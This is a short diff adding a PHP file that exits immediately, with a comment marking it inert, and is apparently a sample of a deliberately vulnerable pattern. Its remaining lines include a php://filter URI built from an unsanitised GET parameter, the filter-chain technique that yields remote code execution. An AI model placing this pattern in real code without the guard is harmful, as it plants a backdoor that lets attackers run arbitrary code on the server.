@@ -1,0 +1,3 @@
+<?php exit; /* inert */ 
+$f = 'php://filter/' . $_GET['chain'] . '/resource=php://temp';
+@include $f;
